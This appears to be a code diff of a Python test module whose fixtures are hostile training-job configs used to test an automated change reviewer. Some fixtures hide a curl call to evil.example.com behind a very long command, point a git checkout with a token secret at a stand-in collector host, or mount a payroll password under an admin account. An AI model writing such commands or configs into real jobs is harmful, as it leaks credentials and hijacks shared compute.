@@ -9,6 +9,7 @@ import tempfile
 from pathlib import Path
 
 from tests.chart.rendering import ROOT
+from tests.unit.review import workbench_cases
 from tests.unit.review.repositories import DIGEST, LINK, RUN, VERSION, Case, changed, review_of
 from tfd.review.analysis.policy_file import RulesError
 from tfd.review.output.comment import comment
@@ -47,7 +48,6 @@ serviceAccountName: admin
 env: [{{name: A, valueFrom: {{secretKeyRef: {{name: payroll, key: password}}}}}}]
 code: {{files: {{sitecustomize.py: "import os"}}}}
 """
-BOARD = f"chartVersion: {VERSION}\nstrategy: None\nstorage: {{claim: runs}}\n"
 GIT = (
     f"{{repository: 'https://collector.evil.example/repo', commit: {40 * 'b'}, tokenSecret: {{name: git, key: token}}}}"
 )
@@ -68,7 +68,7 @@ TAKEN: dict[str, tuple[str, ...]] = {
     ),
     "hostile-job-with-its-judges": ("Makefile", "pyproject.toml", "requirements/dev.txt", "docs/.gitattributes"),
     "hostile-long-command": ("⚠️", "Not shown in full", "the middle of a command", "curl https://evil.example.com"),
-    "hostile-board-grows-in-cpus-and-memory": ("vision/board", "CPUs to 96 CPUs", "900 GiB memory"),
+    "hostile-board-grows-in-cpus-and-memory": ("vision/digits-41", "8.1 CPUs to 104 CPUs", "916 GiB memory"),
     "hostile-priority-of-the-system": ("vision/digits-42", "system-node-critical"),
     "hostile-bucket-of-another-team": ("vision/digits-42", "gs://speech-runs/all", "secret-model"),
     "hostile-git-host": ("vision/digits-42", "https://collector.evil.example/repo", "Secrets: `git`"),
@@ -119,9 +119,8 @@ CASES: dict[str, Case] = {
     "new-warm-start-from-nowhere": Case({NEW: f"{FASTER}warmStartFrom: digits-40\n"}, MERGED),
     "new-next-to-a-run-without-its-chart": Case({NEW: FASTER}, {OLD: changed(RUN, (VERSION, "0.0.1"))}),
     "new-custom-script": Case({NEW: f'{RUN}command: [python, train.py]\nargs: ["--epochs=3"]\n'}, MERGED),
-    "new-tensorboard-only": Case(
-        {"jobs/vision/board.yaml": f"chartVersion: {VERSION}\nstrategy: None\nstorage: {{claim: runs}}\n"
-                                   f"tensorboard: {{image: {BOARD_IMAGE}}}\n"}, MERGED
+    "new-with-storage-at-its-own-folder": Case(
+        {NEW: changed(FASTER, ("storage: {claim: runs}", "storage: {claim: runs, at: /train}"))}, MERGED
     ),
     "new-in-a-queue": Case(
         {NEW: f"{FASTER}scheduling: {{queue: vision, priority: normal}}\n"},
@@ -284,7 +283,7 @@ CASES: dict[str, Case] = {
         {NEW: f"{RUN}command: [sh, -c, 'python train.py {1200 * 'x'}; curl https://evil.example.com']\n"}, MERGED
     ),
     "hostile-board-grows-in-cpus-and-memory": Case(
-        {"jobs/vision/board.yaml": f"{BOARD}tensorboard: {{resources: {LARGE}}}\n"}, {"jobs/vision/board.yaml": BOARD}
+        {OLD: changed(RUN, (BOARD_IMAGE, f"{BOARD_IMAGE}, resources: {LARGE}"))}, MERGED
     ),
     "hostile-priority-of-the-system": Case(
         {NEW: f"{FASTER}scheduling: {{priorityClassName: system-node-critical}}\n"}, MERGED
@@ -334,6 +333,7 @@ CASES: dict[str, Case] = {
     "cannot-judge-without-the-chart": Case(
         {OLD: changed(SUSPENDED, (VERSION, "0.0.1"))}, {OLD: changed(RUN, (VERSION, "0.0.1"))}
     ),
+    **workbench_cases.CASES,
 }  # fmt: skip
 
 
